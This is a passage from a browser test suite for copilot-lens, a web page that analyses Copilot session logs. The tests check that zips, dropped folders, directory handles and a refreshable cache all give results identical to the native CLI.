      writeFileSync(target, readFileSync(path.join(from, rel)));
    }
  }
  const machines = zipDirectory(collected, 'collected');
  const machinesPath = path.join(TMP, 'machines.zip');
  writeFileSync(machinesPath, machines);
  const expected = native(machinesPath);
  assertEqual(expected.report.homes.map((home) => home.path), ['collected/machineA', 'collected/machineB'], 'the CLI finds both homes');
  const spec = zipDirectory(SPEC, 'spec-home');
  const specPath = path.join(TMP, 'spec-again.zip');
  writeFileSync(specPath, spec);
  const once = native(specPath);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await dropFiles(page, [{ name: 'machines.zip', bytes: machines }]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the zip of two machines is analysed');
    await checkNumbers(page, expected, 'two machines');
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'its rows equal the native ones');
    const pageSessions = (await exportFile(page, 'sessions.jsonl')).text;
    assertEqual(withoutHomes(pageSessions), withoutHomes(expected.sessionsJsonl), 'its sessions equal the native ones');
    assertEqual(pageSessions.split('\n').filter(Boolean).map((line) => JSON.parse(line).homes.join()), ['machines.zip/collected/machineB', 'machines.zip/collected/machineA', 'machines.zip/collected/machineB', 'machines.zip/collected/machineB'], 'each session names its home');
    await showView(page, 'sessions');
    const homes = await page.$$eval('#session-home option', (options) => options.map((option) => option.value).filter(Boolean));
    assertEqual(homes, ['machines.zip/collected/machineA', 'machines.zip/collected/machineB'], 'the Sessions view offers both homes');
    await page.selectOption('#session-home', 'machines.zip/collected/machineA');
    assertEqual(await page.$$eval('#session-list tbody tr', (rows) => rows.length), 1, "machine A's one session");
    await shot(page, 'two-machines-sessions.png', false);

    // The same home given twice (two zips of it): every figure as once.
    await dropFiles(page, [
      { name: 'spec-sample.zip', bytes: spec },
      { name: 'spec-again.zip', bytes: spec },
    ]);
    await page.waitForFunction((files) => window.copilotLens.summary && window.copilotLens.summary.files === files, once.summary.files * 2, { timeout: 60_000 });
    const twice = await summaryOf(page);
    // Files and their lines are read twice (the report says so); sessions, rows and usage count once.
    assertEqual({ ...twice, files: twice.files / 2, bad_lines: twice.bad_lines / 2 }, sortKeys(once.summary), 'twice given, counted once');
    assert((await exportFile(page, 'rows.jsonl')).text === once.rowsJsonl, 'rows given twice are shown once, as the native rows of one copy');
    await showView(page, 'diagnostics');
    const problems = await page.textContent('#view-diagnostics .problems-table');
    assert(problems.includes('duplicate') && problems.includes('the same session as spec-sample.zip/'), 'Diagnostics names the copy and what it repeats');
    await shot(page, 'twice-diagnostics.png', false);

    // One session's log dropped alone: read as the session it names, as the CLI reads it.
    const log = path.join(real, '.copilot/session-state/16389f9e-9896-4928-b559-7fadd9312083/events.jsonl');
    const alone = path.join(TMP, 'alone');
    mkdirSync(alone, { recursive: true });
    writeFileSync(path.join(alone, 'events.jsonl'), readFileSync(log));
    const aloneExpected = native(alone);
    await dropFiles(page, [{ name: 'events.jsonl', bytes: readFileSync(log) }]);
    await page.waitForFunction((rows) => window.copilotLens.summary && window.copilotLens.summary.rows === rows, aloneExpected.summary.rows, { timeout: 60_000 });
    await checkNumbers(page, aloneExpected, 'a log dropped alone');
    assert((await exportFile(page, 'rows.jsonl')).text === aloneExpected.rowsJsonl, "a lone log's rows equal the native ones");
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'homes');
    return `two machines: ${JSON.stringify(await summaryOf(page))}`;
  } finally {
    await browser.close();
  }
});

test('impossible counters are flagged in the usage view, with the lines to check, as the native CLI flags them', async () => {
  const fixture = path.join(ROOT, 'fixtures/usage/implausible-counters');
  const zip = zipDirectory(fixture, 'counters-home');
  const zipPath = path.join(TMP, 'counters.zip');
  writeFileSync(zipPath, zip);
  const expected = native(zipPath);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await dropFiles(page, [{ name: 'counters.zip', bytes: zip }]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'analysed');
    await checkNumbers(page, expected, 'impossible counters');
    assert((await exportFile(page, 'usage.csv')).text === expected.usageCsv, 'usage.csv (with its flags) equals the native one');
    await showView(page, 'usage');
    const shown = await page.textContent('#view-usage');
    const flag = await page.$eval('#view-usage .usage-table [data-flag="implausible_counter"]', (badge) => badge.textContent);
    assertEqual(flag, 'a bad token count, left out', 'the usage table shows the flag in words');
    assert(await page.$eval('#view-usage dl.flag-legend', (legend) => legend.textContent.includes('a bad token count, left out')), 'the legend under the table says what it means');
    const problems = expected.report.diagnostics.filter((d) => d.kind === 'implausible_counter');
    assert(problems.length > 0, 'the CLI names the lines');
    for (const problem of problems) assert(shown.includes(`${problem.line}`) && shown.includes(problem.file), `the page names ${problem.file}:${problem.line}`);
    await shot(page, 'usage-implausible.png');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'counters');
    return `${problems.length} counter lines named`;
  } finally {
    await browser.close();
  }
});

/** native() on several roots at once. */
/** A copy of `zip` whose entries ending in `suffix` carry a wrong CRC-32 (local and central). */
function withWrongChecksums(zip, suffix) {
  const copy = Buffer.from(zip);
  for (let at = copy.lastIndexOf(Buffer.from('PK\u0005\u0006')) - 1; at >= 0; at--) {
    if (copy.readUInt32LE(at) !== 0x02014b50) continue;
    const name = copy.toString('utf8', at + 46, at + 46 + copy.readUInt16LE(at + 28));
    if (!name.endsWith(suffix)) continue;
    const local = copy.readUInt32LE(at + 42);
    copy.writeUInt32LE(copy.readUInt32LE(at + 16) ^ 1, at + 16);
    copy.writeUInt32LE(copy.readUInt32LE(local + 14) ^ 1, local + 14);
  }
  return copy;
}

function native2(inputs) {
  const out = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-native-'));
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['analyze', ...inputs, '--out', out], { stdio: 'ignore' });
  const usage = JSON.parse(execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', ...inputs, '--json'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }));
  const report = JSON.parse(readFileSync(path.join(out, 'report.json'), 'utf8'));
  const sessions = readFileSync(path.join(out, 'sessions.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const usageRows = readFileSync(path.join(out, 'usage.jsonl'), 'utf8').split('\n').filter(Boolean).length;
  rmSync(out, { recursive: true, force: true });
  return {
    summary: {
      files: report.totals.files_found,
      sessions: report.totals.sessions,
      rows: report.totals.rows,
      usage_rows: usageRows,
      bad_lines: report.totals.bad_lines,
      total_tokens: usage.grand_total.total,
    },
    prompts: sessions.reduce((n, s) => n + s.prompts, 0),
    toolCalls: sessions.reduce((n, s) => n + s.tool_calls, 0),
  };
}

test('absolute entry names, a zip in a zip and UTF-16 logs equal the native CLI; a file that is not a zip says what it is, named once', async () => {
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    const dropped = async (file) => {
      await dropFiles(page, [{ name: path.basename(file), bytes: readFileSync(file) }]);
      return waitForState(page, ['done', 'error']);
    };
    // Read as the CLI reads them: entries named C:\Users\..., a home in a zip inside the zip.
    for (const zip of ['zips/absolute-windows.zip', 'zips/zip-in-zip.zip']) {
      const file = path.join(INPUTS, zip);
      const expected = native(file);
      assertEqual(await dropped(file), 'done', `${zip} is analysed`);
      await checkNumbers(page, expected, zip);
      assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, `rows.jsonl of ${zip} equals the native one`);
      const label = expected.report.roots[0].label.slice(path.dirname(file).length + 1);
      assertEqual(JSON.parse((await exportFile(page, 'report.json')).text).roots[0].label, label, `${zip}: the root's name`);
    }
    // UTF-16 logs, as a folder and as a zip: their long text (kept only in part by the table) is
    // read again, decoded, for the export.
    const encodings = path.join(INPUTS, 'encodings');
    const expected = native(encodings);
    assert(expected.rowsJsonl.includes('naïve café ✓ 😀 long texte') && expected.report.totals.bad_lines === 0, 'the CLI reads the UTF-16 logs');
    await pick(page, encodings);
    await checkNumbers(page, expected, 'UTF-16 logs');
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'rows.jsonl of the UTF-16 logs equals the native one');
    const zipped = zipDirectory(encodings, 'encodings');
    await dropFiles(page, [{ name: 'encodings.zip', bytes: zipped }]);
    await page.waitForFunction(() => document.body.dataset.state === 'done' && window.copilotLens.summary);
    await checkNumbers(page, expected, 'UTF-16 logs in a zip');
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'and from a zip');

    // Refused as the CLI refuses them, with the same words and the file named once.
    const refused = {};
    for (const name of ['not-zips/tar-gz.zip', 'not-zips/empty.zip', 'zips/truncated.zip', 'zips/zip-in-zip-in-zip.zip']) {
      const file = path.join(INPUTS, name);
      assertEqual(await dropped(file), 'error', `${name} is refused`);
      refused[name] = await page.evaluate(() => window.copilotLens.error);
      assertEqual(refused[name], nativeRefusal(file), `${name}: the page says what the CLI says`);
      assertEqual(await page.textContent('#error-message'), refused[name], `${name}: and shows it`);
    }
    assert(refused['not-zips/tar-gz.zip'].startsWith('tar-gz.zip: this is a gzip-compressed tar archive'), refused['not-zips/tar-gz.zip']);
    // A .tar.gz by its own name is not taken for loose files (which would hold no Copilot data).
    const tarGz = path.join(TMP, 'backup.tar.gz');
    writeFileSync(tarGz, readFileSync(path.join(INPUTS, 'not-zips/tar-gz.zip')));
    assertEqual(await dropped(tarGz), 'error', 'a .tar.gz is refused');
    refused['backup.tar.gz'] = await page.evaluate(() => window.copilotLens.error);
    assertEqual(refused['backup.tar.gz'], nativeRefusal(tarGz), 'a .tar.gz: the page says what the CLI says');
    assertEqual(await page.textContent('#inputs-line'), 'Input: backup.tar.gz (archive)', 'and names it an archive');
    await shot(page, 'not-a-zip-error.png', false);
    // Beside a good root, the refused one is a warning, named once.
    await dropFiles(page, [
      { name: 'tar-gz.zip', bytes: readFileSync(path.join(INPUTS, 'not-zips/tar-gz.zip')) },
      { name: 'zip-in-zip.zip', bytes: readFileSync(path.join(INPUTS, 'zips/zip-in-zip.zip')) },
    ]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the good zip beside is analysed');
    await showView(page, 'overview');
    const warning = await page.textContent('#view-overview .warning');
    assert(warning.includes(refused['not-zips/tar-gz.zip']) && warning.split('tar-gz.zip').length === 2, `the warning names the file once: ${warning}`);
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'inputs');
    return Object.values(refused).join(' | ');
  } finally {
    await browser.close();
  }
});

test('a dropped folder (directory entries walked) equals the native CLI; a home is walked only in its Copilot folders', async () => {
  const expected = native(SPEC);
  // The fixture's files, with their modification times, and junk a home holds besides.
  const files = filesUnder(SPEC).map((rel) => ({
    path: rel,
    b64: readFileSync(path.join(SPEC, rel)).toString('base64'),
    mtime: statSync(path.join(SPEC, rel)).mtimeMs,
  }));
  files.push({ path: 'node_modules/left-pad/index.js', b64: '', mtime: 0 }, { path: 'Documents/notes.txt', b64: '', mtime: 0 });
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    const listed = await page.evaluate((list) => {
      // A FileSystemDirectoryEntry look-alike, handing out entries two at a time as readEntries may.
      const opened = [];
      const inFlight = { now: 0, most: 0 };
      const tree = { name: 'home-folder', dirs: new Map(), files: [] };
      for (const f of list) {
        const parts = f.path.split('/');
        let node = tree;
        for (const part of parts.slice(0, -1)) {
          if (!node.dirs.has(part)) node.dirs.set(part, { name: part, dirs: new Map(), files: [] });
          node = node.dirs.get(part);
        }
        const binary = atob(f.b64);
        const bytes = new Uint8Array(binary.length);
        for (let i = 0; i < binary.length; i++) bytes[i] = binary.charCodeAt(i);
        node.files.push({ name: parts[parts.length - 1], path: f.path, file: new File([bytes], parts[parts.length - 1], { lastModified: Math.floor(f.mtime) }) });
      }
      const dirEntry = (node, prefix) => ({
        name: node.name,
        isDirectory: true,
        isFile: false,
        createReader() {
          // Each File comes a little later, as the browser's round trip makes it: how many are
          // asked for at once tells whether the walk waits for each before the next.
          const open = (f, ok) => {
            opened.push(f.path);
            inFlight.now += 1;
            inFlight.most = Math.max(inFlight.most, inFlight.now);
            setTimeout(() => ((inFlight.now -= 1), ok(f.file)), 2);
          };
          const all = [...[...node.dirs.values()].map((d) => dirEntry(d, prefix + d.name + '/')), ...node.files.map((f) => ({ name: f.name, isFile: true, isDirectory: false, file: (ok) => open(f, ok) }))];
          let at = 0;
          return { readEntries: (ok) => setTimeout(() => ok(all.slice(at, (at += 2)))) };
        },
      });
      const dataTransfer = { items: [{ kind: 'file', webkitGetAsEntry: () => dirEntry(tree, ''), getAsFile: () => null }], files: [] };
      const event = new Event('drop', { bubbles: true, cancelable: true });
      Object.defineProperty(event, 'dataTransfer', { value: dataTransfer });
      document.getElementById('drop-zone').dispatchEvent(event);
      window.__opened = opened;
      window.__inFlight = inFlight;
      return true;
    }, files);
    assert(listed, 'dropped');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the dropped folder is analysed');
    await checkNumbers(page, expected, 'dropped folder');
    const opened = await page.evaluate(() => window.__opened);
    assert(!opened.some((p) => p.startsWith('node_modules/') || p.startsWith('Documents/')), 'nothing outside the Copilot folders was even opened as a File');
    assertEqual(opened.length, files.length - 2, 'every Copilot file listed');
    const { most } = await page.evaluate(() => window.__inFlight);
    assert(most > 1, `the walk asks for many Files at once, not one after another (at most ${most} at once)`);
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'rows.jsonl of the dropped folder equals the native one');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'folder drop');
    return `${opened.length} files listed (up to ${most} asked for at once), node_modules and Documents skipped`;
  } finally {
    await browser.close();
  }
});

/** The main action: "Open your .copilot folder", then, after its word on the browser's prompt, the picker. */
async function openMain(page) {
  await page.click('#open-copilot');
  await page.click('#before-prompt-go');
}

/**
 * The File System Access picker's dialog cannot be driven headless: this one returns a real
 * FileSystemDirectoryHandle named `name`, made in the origin private file system, holding `files`
 * ({path, b64}).
 */
async function pickerReturning(page, name, files) {
  await page.evaluate(async ({ name, list }) => {
    const top = await (await navigator.storage.getDirectory()).getDirectoryHandle(name, { create: true });
    for (const f of list) {
      const parts = f.path.split('/');
      let dir = top;
      for (const part of parts.slice(0, -1)) dir = await dir.getDirectoryHandle(part, { create: true });
      const writable = await (await dir.getFileHandle(parts[parts.length - 1], { create: true })).createWritable();
      await writable.write(Uint8Array.from(atob(f.b64), (c) => c.charCodeAt(0)));
      await writable.close();
    }
    window.showDirectoryPicker = async () => top;
  }, { name, list: files });
}

test('a folder opened with showDirectoryPicker (a real directory handle, from the origin private file system) equals the native CLI', async () => {
  const expected = native(SPEC);
  const files = filesUnder(SPEC).map((rel) => ({ path: rel, b64: readFileSync(path.join(SPEC, rel)).toString('base64') }));
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await pickerReturning(page, 'spec-sample', files);
    await openMain(page);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the opened folder is analysed');
    // Modification times are the copies' own, so the numbers are compared, not the rows' stamps.
    assertEqual(await summaryOf(page), sortKeys(expected.summary), 'the summary equals the native CLI\'s');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'directory picker');
    return `${files.length} files through a FileSystemDirectoryHandle`;
  } finally {
    await browser.close();
  }
});

test('a folder opened with File System Access can be remembered: the next visit analyses it again with one click, after asking; forgetting it removes the offer', async () => {
  const expected = native(SPEC);
  const files = filesUnder(SPEC).map((rel) => ({ path: rel, b64: readFileSync(path.join(SPEC, rel)).toString('base64') }));
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    assert(await page.isVisible('#remember-folder'), 'Chromium offers to remember the folder');
    assert(await page.isHidden('#remembered'), 'nothing remembered on a first visit');
    await pickerReturning(page, 'remembered-home', files);
    await page.check('#remember-folder');
    await openMain(page);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the opened folder is analysed');
    const stored = await page.evaluate(() => new Promise((resolve) => {
      const open = indexedDB.open('copilot-lens');
      open.onsuccess = () => {
        const request = open.result.transaction('folders').objectStore('folders').getAll();
        request.onsuccess = () => resolve(request.result.map((value) => [value.constructor.name, value.kind, value.name]));
      };
    }));
    assertEqual(stored, [['FileSystemDirectoryHandle', 'directory', 'remembered-home']], 'only the handle is kept, nothing of the data');

    // The next visit: one click, the browser's permission asked (and granted here), the same numbers.
    const next = await browser.context.newPage();
    const nextErrors = [];
    next.on('pageerror', (error) => nextErrors.push(error.message));
    await next.goto(server.url);
    await waitEngine(next);
    await next.waitForSelector('#remembered:not([hidden])');
    assertEqual(await next.textContent('#reopen-folder'), 'Analyse remembered-home again', 'the remembered folder is offered by name');
    // It is the main button: first, large and primary; opening another is the second choice.
    const buttons = await next.$$eval('#reopen-folder, #open-copilot', (all) => all.map((b) => [b.id, b.classList.contains('primary'), b.classList.contains('big')]));
    assertEqual(buttons, [['reopen-folder', true, true], ['open-copilot', false, false]], 'the remembered folder is the main button');
    assertEqual(await next.textContent('#open-copilot'), 'Open another .copilot folder', 'and the other says so');
    await next.evaluate(() => {
      window.__asked = 0;
      const original = FileSystemHandle.prototype.requestPermission;
      FileSystemHandle.prototype.queryPermission = async () => 'prompt';
      FileSystemHandle.prototype.requestPermission = async function (options) {
        window.__asked += 1;
        return original.call(this, options);
      };
    });
    await next.click('#reopen-folder');
    assertEqual(await waitForState(next, ['done', 'error']), 'done', 'analysed again with one click');
    assertEqual(await next.evaluate(() => window.__asked), 1, 'the browser was asked for permission first');
    assertEqual(await summaryOf(next), sortKeys(expected.summary), "the summary equals the native CLI's");
    await next.click('#tabs button[data-view="overview"]').catch(() => {});
    await next.evaluate(() => document.getElementById('forget-folder').click());
    await next.waitForSelector('#remembered[hidden]', { state: 'attached' });
    const third = await browser.context.newPage();
    await third.goto(server.url);
    await waitEngine(third);
    assert(await third.isHidden('#remembered'), 'forgotten: nothing offered on the next visit');
    assertEqual([...errors, ...nextErrors], [], 'no page errors');
    return 'remembered, analysed again after asking, forgotten';
  } finally {
    await browser.close();
  }
});

// ---- the cache ------------------------------------------------------------------------------------

/** Writes `files` ({path, b64}) into the origin private folder `name` and removes `gone`; returns every file's lastModified there, by path. */
async function writeIntoOpfs(page, name, files, gone = []) {
  return page.evaluate(async ({ name, list, gone }) => {
    const top = await (await navigator.storage.getDirectory()).getDirectoryHandle(name, { create: true });
    const folderOf = async (parts, create) => {
      let dir = top;
      for (const part of parts) dir = await dir.getDirectoryHandle(part, { create });
      return dir;
    };
    for (const f of list) {
      const parts = f.path.split('/');
      const writable = await (await (await folderOf(parts.slice(0, -1), true)).getFileHandle(parts.at(-1), { create: true })).createWritable();
      await writable.write(Uint8Array.from(atob(f.b64), (c) => c.charCodeAt(0)));
      await writable.close();
    }
    for (const p of gone) {
      const parts = p.split('/');
      await (await folderOf(parts.slice(0, -1), false)).removeEntry(parts.at(-1));
    }
    const times = {};
    const walk = async (dir, prefix) => {
      for await (const child of dir.values()) {
        if (child.kind === 'directory') await walk(child, `${prefix}${child.name}/`);
        else times[`${prefix}${child.name}`] = (await child.getFile()).lastModified;
      }
    };
    await walk(top, '');
    return times;
  }, { name, list: files.map((rel) => ({ path: rel.path, b64: rel.b64 })), gone });
}

/** What the page's cache folder holds: its index's inputs and the files in it. */
async function cacheFolder(page) {
  return page.evaluate(async () => {
    const dir = await (await navigator.storage.getDirectory()).getDirectoryHandle('copilot-lens-cache', { create: true });
    const files = [];
    for await (const name of dir.keys()) files.push(name);
    const index = files.includes('index.json') ? JSON.parse(await (await (await dir.getFileHandle('index.json')).getFile()).text()) : { inputs: {} };
    return { files: files.sort(), inputs: Object.keys(index.inputs) };
  });
}

const SPEC_SESSION = '5e55a0a1-0000-4000-8000-000000000001';

/** A fresh copy of the spec sample in TMP/`name`: the home, its session-state folder and its session's id. */
function specHome(name) {
  const home = path.join(TMP, name);
  rmSync(home, { recursive: true, force: true });
  cpSync(SPEC, home, { recursive: true });
  return { home, state: path.join(home, '.copilot/session-state'), first: SPEC_SESSION };
}

/**
 * Copies the spec sample's session in `home` (a copy of the sample, `specHome`) under another
 * id, ending in `n`, the id replaced in its files. Returns the new id.
 */
function copySpecSession(home, n) {
  const state = path.join(home, '.copilot/session-state');
  const first = SPEC_SESSION;
  const id = first.replace(/1$/, String(n));
  cpSync(path.join(state, first), path.join(state, id), { recursive: true });
  for (const rel of filesUnder(path.join(state, id))) {
    const file = path.join(state, id, rel);
    writeFileSync(file, readFileSync(file, 'utf8').replaceAll(first, id));
  }
  return id;
}

/** Clicks Refresh and waits for that analysis to end (the page was done before it). */
function refresh(page) {
  return clickToEnd(page, '#refresh-folder');
}

/** Every export of the analysis shown (but a session's), by name. */
async function everyExport(page) {
  await showView(page, 'exports');
  const names = await page.$$eval('#view-exports button[data-export]', (buttons) => buttons.map((b) => b.dataset.export).filter((name) => name !== 'session.md'));
  const texts = {};
  for (const what of names) texts[what] = (await exportFile(page, what)).text;
  return texts;
}

test('the cache: a remembered folder changed between analyses and refreshed equals a cold analysis and the CLI, and says how many files came from the cache; Clear the cache makes the next run cold; Forget it removes the cache', async () => {
  // A home of five sessions (the spec sample's, copied under other ids) and the store with its WAL.
  const { home, state, first } = specHome('cached-home');
  const sessionLike = (n) => copySpecSession(home, n);
  // Session 5's log is only touched (written again as it was); session 6 stays as it is.
  const [second, third, fifth] = [sessionLike(2), sessionLike(3), sessionLike(5), sessionLike(6)];
  const encoded = (rel) => ({ path: rel, b64: readFileSync(path.join(home, rel)).toString('base64') });
  const log = (id) => `.copilot/session-state/${id}/events.jsonl`;
  // The sample's log ends in a line cut short: ended here, so that the line appended below makes
  // a log that only grew, which the cache parses from where it ended.
  writeFileSync(path.join(home, log(first)), `${readFileSync(path.join(home, log(first)), 'utf8')}\n`);

  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pickerReturning(page, 'cached-home', filesUnder(home).map(encoded));
    // The disk copy takes the folder's times, so that the CLI's rows dated by a file's time are the page's.
    const align = (times) => {
      // Half a millisecond more: seconds as a double would otherwise round some times down a millisecond.
      for (const [rel, ms] of Object.entries(times)) utimesSync(path.join(home, rel), (ms + 0.5) / 1000, (ms + 0.5) / 1000);
    };
    align(await writeIntoOpfs(page, 'cached-home', []));
    await page.check('#remember-folder');
    await openMain(page);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the remembered folder is analysed');
    const firstRun = await page.evaluate(() => window.copilotLens.cache);
    assertEqual(firstRun.from_cache, 0, 'the first analysis takes nothing from the cache');
    assert(await page.isVisible('#refresh-folder'), 'the remembered folder offers Refresh');
    // The worker keeps the cache after done, before it says the analysis settled.
    const settled = () => page.waitForFunction(() => window.copilotLens.settled !== null);
    await settled();
    assertEqual((await cacheFolder(page)).inputs.length, 1, 'the analysis is kept in the cache');
    const filesRead = firstRun.changed;

    // The changes: a log appended to, a log rewritten with the same size, a log only touched, a
    // log deleted, one added, the store's WAL grown.
    const appended = readFileSync(path.join(home, log(first)), 'utf8').split('\n')[3]
      .replace('e0000000-0000-4000-8000-000000000004', 'e0000000-0000-4000-8000-000000000099')
      .replace('2026-10-01T09:00:01.200Z', '2026-10-01T09:30:00.000Z');
    writeFileSync(path.join(home, log(first)), readFileSync(path.join(home, log(first)), 'utf8') + appended + '\n');
    const rewritten = readFileSync(path.join(home, log(third)), 'utf8');
    assert(rewritten.includes('fix the failing test'), 'the log to rewrite holds the prompt');
    writeFileSync(path.join(home, log(third)), rewritten.replace('fix the failing test', 'fix the passing test'));
    // A small file changed: the session's name, which its record takes.
    const workspace = (id) => `.copilot/session-state/${id}/workspace.yaml`;
    writeFileSync(path.join(home, workspace(third)), readFileSync(path.join(home, workspace(third)), 'utf8').replace('name: Fix failing test', 'name: Fix the passing test'));
    rmSync(path.join(home, log(second)));
    const fourth = sessionLike(4);
    const store = path.join(home, '.copilot/session-store.db');
    const walBefore = statSync(`${store}-wal`).size;
    // SQLite appends frames to the WAL and, with no checkpoint, leaves the database file as it
    // was: both are copied while the connection is open (closing it would checkpoint).
    execFileSync('python3', ['-c', `import sqlite3,shutil,sys,tempfile,os
store=sys.argv[1]
work=tempfile.mkdtemp()
for suffix in ('','-wal'): shutil.copy(store+suffix, os.path.join(work,'s.db'+suffix))
c=sqlite3.connect(os.path.join(work,'s.db'))
c.execute('pragma wal_autocheckpoint=0')
c.execute("insert into turns(session_id,turn_index,user_message,timestamp) values('${first}',9,'one more turn','2026-10-01T09:31:00.000Z')")
c.commit()
for suffix in ('','-wal'): shutil.copy(os.path.join(work,'s.db'+suffix), store+suffix)
c.close()
shutil.rmtree(work)`, store]);
    assert(statSync(`${store}-wal`).size > walBefore, 'the WAL grew');
    const changed = [log(first), log(third), workspace(third), log(fifth), ...filesUnder(path.join(state, fourth)).map((rel) => `.copilot/session-state/${fourth}/${rel}`), '.copilot/session-store.db', '.copilot/session-store.db-wal'];
    align(await writeIntoOpfs(page, 'cached-home', changed.map(encoded), [log(second)]));

    // The walk gets no File for the files no analysis opens (the engine's never_opened): those
    // asked for are held back until the analysis is done, which it is without them.
    await page.evaluate(() => {
      const getFile = FileSystemFileHandle.prototype.getFile;
      window.heldFiles = [];
      let release;
      const released = new Promise((resolve) => (release = resolve));
      window.releaseFiles = release;
      FileSystemFileHandle.prototype.getFile = function () {
        if (!['tracking.json', 'config.json'].includes(this.name)) return getFile.call(this);
        window.heldFiles.push(this.name);
        return released.then(() => getFile.call(this));
      };
    });
    // The Timeline, searched, before the refresh: the refresh keeps the view, its filter and search.
    await showView(page, 'timeline');
    await page.fill('#tl-search', 'failing');
    await page.waitForSelector('#tl-scroll .vt-row:not([hidden]) mark');
    assertEqual(await refresh(page), 'done', 'refreshed');
    assert(await page.isVisible('#view-timeline'), 'the refresh keeps the view');
    assertEqual(await page.inputValue('#tl-search'), 'failing', 'and the search');
    const heldAtDone = await page.evaluate(() => window.heldFiles.slice().sort());
    assertEqual(heldAtDone, ['config.json', ...Array(6).fill('tracking.json')], 'done without the Files of a secret and of six sessions\' rewind trackers, asked for after it');
    await page.evaluate(() => window.releaseFiles());
    const refreshed = await page.evaluate(() => window.copilotLens.cache);
    // A refresh says what changed in words; what the cache did is its title.
    const message = await page.getAttribute('#cache-status', 'title');
    const said = message.match(/^Analysed again in \d+\.\d s: ([\d,]+) files? changed \(([\d,]+) grown logs? parsed from where (?:it|they) ended\), ([\d,]+) from the cache\.$/);
    assert(said, `the page says what the cache did: ${message}`);
    const number = (text) => Number(text.replace(/,/g, ''));
    assertEqual(said.slice(1).map(number), [refreshed.changed, refreshed.grown, refreshed.from_cache], 'the message gives the engine\'s numbers');
    // The small files the engine reads whole (a session's workspace and checkpoints, the home's settings and process log) are kept too.
    const small = (dir) =>
      filesUnder(dir).filter((rel) => /(^|\/)(workspace\.yaml|checkpoints\/index\.md)$|^\.copilot\/((config|settings|permissions-config|command-history-state)\.json|logs\/process-[^/]+\.log)$/.test(rel));
    const [smallInHome, smallAdded] = [small(home).length, small(path.join(state, fourth)).length];
    assertEqual([smallInHome, smallAdded], [17, 2], 'six sessions of two small files, and five at the top');
    assertEqual(
      [refreshed.changed, refreshed.grown, refreshed.from_cache],
      [5 + 1 + smallAdded, 1, 1 + smallInHome - smallAdded - 1],
      'the logs appended to, rewritten, touched and added were parsed (the one appended to from where it ended), the store whose WAL grew read again, the workspace changed and the added session\'s small files read; the unchanged log came from the cache (its time, given after the first analysis, kept beside its entry), and so did the other small files, read again (written less than a minute before, their times could not stand for them)',
    );
    await shot(page, 'cache-refreshed.png', false);
    const cached = await everyExport(page);
    const expected = native(home, { byName: true });
    // The first session grew (a line, a turn in the store) and the fourth is new; the third's log
    // was rewritten with its times as they were, the second's deleted.
    const lastEvent = (id) => expected.sessions.find((session) => session.session_id === id).last_event;
    const latest = [lastEvent(first), lastEvent(fourth)].sort().pop().replace('T', ' ').replace(/\.\d+Z$/, '');
    const changes = (await page.textContent('#cache-status')).replace(/^Refreshed in \d+\.\d s: /, '');
    assertEqual(changes, `1 session has new activity, 1 new session; latest event ${latest}.`, 'a refresh says what changed, in words');
    assertEqual(await summaryOf(page), sortKeys(expected.summary), "the refreshed summary equals the native CLI's");
    for (const [name, text] of [['rows.jsonl', expected.rowsJsonl], ['sessions.jsonl', expected.sessionsJsonl], ['inventory.json', expected.inventoryJson], ['usage.csv', expected.usageCsv]]) {
      assert(cached[name] === text, `${name} of the refreshed analysis equals the native CLI's`);
    }
    assertEqual(JSON.parse(cached['report.json']), expected.report, "report.json of the refreshed analysis equals the native CLI's: the sizes of the files got after done are in");

    // Clear the cache: the next analysis reads every file, and its every export equals the cached one's.
    await page.click('#clear-cache');
    await page.waitForFunction(() => document.getElementById('cache-status').textContent.startsWith('The cache is cleared'));
    assertEqual((await cacheFolder(page)).files, [], 'the cache folder is empty');
    assertEqual(await refresh(page), 'done', 'analysed cold');
    const cold = await page.evaluate(() => window.copilotLens.cache);
    assertEqual(cold.from_cache, 0, 'after Clear the cache nothing comes from it');
    assert(cold.changed >= filesRead, 'every file is read again');
    const coldExports = await everyExport(page);
    assertEqual(Object.keys(cached).sort(), Object.keys(coldExports).sort(), 'the same exports');
    for (const name of Object.keys(coldExports)) assert(cached[name] === coldExports[name], `${name}: the cached analysis's equals the cold one's, byte for byte`);

    // Forget it: the folder and what the cache kept of it go.
    await settled();
    assertEqual((await cacheFolder(page)).inputs.length, 1, 'kept again');
